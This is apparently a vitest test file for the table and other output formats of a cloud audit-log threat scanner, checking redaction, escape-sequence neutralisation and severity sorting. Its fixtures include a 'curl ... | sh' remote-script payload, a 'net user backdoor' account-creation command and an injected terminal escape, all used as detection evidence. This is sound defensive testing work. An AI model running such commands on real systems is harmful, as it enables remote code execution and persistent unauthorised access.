import { describe, expect, it } from "vitest";
import type { ScanResult } from "../../src/model/finding.js";
import { tableFormat } from "../../src/outputs/formats/table.js";
import { formatNames, getFormat, renderToString } from "../../src/outputs/index.js";
import { ESC, makeResult } from "./fixtures.js";

// biome-ignore lint/suspicious/noControlCharactersInRegex: asserting their absence.
const CONTROL_EXCEPT_NEWLINE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: stripping our own colour codes.
const SGR = /\u001b\[[0-9;]*m/g;

function renderTable(result: ScanResult, opts: { color: boolean; width?: number }): Promise<string> {
  return renderToString(tableFormat, result, { toolVersion: "0.1.0", ...opts });
}

/** Finding rows only: the first line of each row after the header rule (wrapped cells continue indented). */
function findingRows(lines: readonly string[], header: number): string[] {
  return lines.slice(header + 2).filter((l) => /^\S/.test(l));
}

describe("renderTable", () => {
  it("neutralises escape sequences and newlines from the data", async () => {
    const { result } = makeResult();
    const out = await renderTable(result, { color: false });
    expect(out).not.toContain(ESC);
    expect(out).not.toMatch(CONTROL_EXCEPT_NEWLINE);
    expect(out).not.toContain("fake second line\n");
    expect(out).toContain("⏎");
  });

  it("adds colour only when asked, and only SGR colour codes", async () => {
    const { result } = makeResult();
    const plain = await renderTable(result, { color: false });
    const coloured = await renderTable(result, { color: true });
    expect(coloured).toContain(`${ESC}[`);
    // Every escape in coloured output is one of ours (SGR); removing them gives the plain table.
    expect(coloured.replace(SGR, "")).toBe(plain);
    expect(coloured.replace(SGR, "")).not.toContain(ESC);
  });

  it("summarises the scan and sorts rows by severity, then time", async () => {
    const { result, secrets } = makeResult();
    const out = await renderTable(result, { color: false });
    const lines = out.split("\n");
    expect(lines[0]).toContain("scan-20240501-0001");
    expect(lines[1]).toContain("3 findings (1 critical, 1 high, 1 medium)");
    expect(lines[1]).toContain("1234 records read");
    expect(lines[1]).toContain("scan INCOMPLETE");
    expect(lines[1]).toContain("2 of 3 sources not read completely (see Coverage below)");
    // The whole reason, role included, is in the Coverage section rather than cut on the summary line.
    expect(out).toContain("AuthorizationFailed");
    const header = lines.findIndex((l) => l.startsWith("SEVERITY"));
    expect(lines[header]).toMatch(/^SEVERITY +TIME +TECHNIQUE\(S\) +TITLE +RESOURCE +PRINCIPAL$/);
    const rows = findingRows(lines, header).slice(0, 3);
    expect(rows.map((r) => r.split(/\s+/)[0])).toEqual(["critical", "high", "medium"]);
    expect(rows[0]).toContain("sites/func-orders");
    expect(rows[0]).toContain("2024-05-01 09:00:00Z");
    expect(rows[1]).toContain("mallory@contoso.example");
    expect(rows[2]).toContain("T1610,T1059.004");
    expect(out).toContain("Coverage:");
    expect(out).toMatch(/partial +archive/);
    expect(out).toMatch(/failed +rbac/);
    for (const s of Object.values(secrets)) expect(out).not.toContain(s);
  });

  it("fits a narrow terminal", async () => {
    const { result } = makeResult();
    const out = await renderTable(result, { color: false, width: 100 });
    const lines = out.split("\n");
    const header = lines.findIndex((l) => l.startsWith("SEVERITY"));
    // Rows and the detail lines under them.
    for (const l of lines.slice(header, header + 8)) expect(Array.from(l).length).toBeLessThanOrEqual(100);
  });

  it("says so in one line when there are no findings", async () => {
    const { result } = makeResult();
    const out = await renderTable(
      { ...result, findings: [], complete: true, coverage: result.coverage.slice(0, 1) },
      { color: false },
    );
    expect(out.split("\n").filter((l) => l === "No findings.")).toHaveLength(1);
    expect(out).not.toContain("SEVERITY");
    expect(out).toContain("scan complete");
    expect(out).toContain("Coverage: the source was read completely.");
  });
});

describe("format registry", () => {
  it("registers the built-in formats behind one signature", async () => {
    expect(formatNames()).toEqual(["table", "json", "sarif", "markdown", "csv", "html", "navigator"]);
    expect(getFormat("sarif")?.name).toBe("sarif");
    expect(getFormat("toString")).toBeUndefined();
    expect(getFormat("xml")).toBeUndefined();
    const { result } = makeResult();
    const ctx = { toolVersion: "0.1.0", color: false };
    const render = (name: string, options?: Record<string, string>): Promise<string> => {
      const format = getFormat(name);
      if (!format) throw new Error(`no format ${name}`);
      return renderToString(format, result, { ...ctx, ...(options ? { options } : {}) });
    };
    for (const name of formatNames()) {
      const out = await render(name);
      expect(out.endsWith("\n")).toBe(true);
    }
    expect(JSON.parse(await render("json")).schemaVersion).toBe("3");
    expect(JSON.parse(await render("sarif", { artifactUri: "audit.yml" })).version).toBe("2.1.0");
  });
});

describe("renderTable detail lines", () => {
  it("shows the payload that ran under its finding, redacted and on one line", async () => {
    const { result } = makeResult();
    const f = result.findings[0];
    if (!f) throw new Error("fixture has no finding");
    const sig = "c2VjcmV0c2lnbmF0dXJlMTIzNDU2Nzg5MA";
    f.evidence = {
      kind: "payload",
      records: f.evidence.records,
      vector: "Run Command (managed)",
      payloads: [
        {
          kind: "script",
          path: "properties.source.script",
          content: `#!/bin/sh\ncurl -fsSL "https://x.blob.core.windows.net/c/s.sh?sv=2024-11-04&sig=${sig}" | sh`,
          truncated: false,
          vector: "Run Command (managed)",
        },
      ],
    };
    const text = await renderTable({ ...result, findings: [f] }, { color: false });
    const line = text.split("\n").find((l) => l.includes("↳"));
    expect(line).toContain("properties.source.script: #!/bin/sh curl -fsSL");
    expect(text).not.toContain(sig);
  });
});

describe("renderTable detail lines by evidence kind", () => {
  function detailLines(text: string): string[] {
    return text.split("\n").filter((l) => l.includes("↳"));
  }

  it("shows a chain's steps", async () => {
    const { result } = makeResult();
    const f = result.findings[0];
    if (!f) throw new Error("fixture has no finding");
    f.evidence = {
      kind: "chain",
      records: f.evidence.records,
      correlation: { type: "temporal_ordered", timespanMs: 3_600_000, group: { principal: "mallory" } },
      steps: [
        {
          rule: "role-grant",
          ruleId: "r1",
          resourceId: f.resourceId,
          records: ["e1"],
          operation: "Microsoft.Authorization/roleAssignments/write",
        },
        { rule: "run-command", ruleId: "r2", resourceId: f.resourceId, records: ["e2"] },
      ],
    };
    const [line] = detailLines(await renderTable({ ...result, findings: [f] }, { color: false }));
    expect(line).toContain("2 steps: roleAssignments/write → run-command");
  });

  it("shows what was new for a first-seen finding", async () => {
    const { result } = makeResult();
    const f = result.findings[0];
    if (!f) throw new Error("fixture has no finding");
    f.evidence = {
      kind: "firstSeen",
      records: f.evidence.records,
      operationName: "Microsoft.Compute/virtualMachines/runCommand/action",
      occurrences: 1,
      outcome: "succeeded",
      baseline: { from: "2024-04-01T00:00:00Z", learningEnd: "2024-04-08T00:00:00Z" },
      firstSeen: "2024-05-01T10:00:00Z",
      newValue: { callerIpAddress: `203.0.113.0/24${ESC}[2J` },
    };
    const [line] = detailLines(await renderTable({ ...result, findings: [f] }, { color: false }));
    expect(line).toContain("new since the baseline: callerIpAddress=203.0.113.0/24");
    expect(line).not.toContain(ESC);
  });

  it("shows the matched values of other kinds, redacted, without the operation name", async () => {
    const { result, secrets } = makeResult();
    const text = await renderTable(result, { color: false });
    const lines = detailLines(text);
    expect(lines.some((l) => l.includes("commandLine=net user backdoor REDACTED /add"))).toBe(true);
    for (const s of Object.values(secrets)) expect(text).not.toContain(s);
    const f = result.findings[0];
    if (f?.evidence.kind !== "activity") throw new Error("fixture's first finding is an activity");
    f.evidence.matched = { operationName: "Microsoft.Compute/virtualMachines/runCommand/action" };
    expect(detailLines(await renderTable({ ...result, findings: [f] }, { color: false }))).toEqual([]);
  });
});
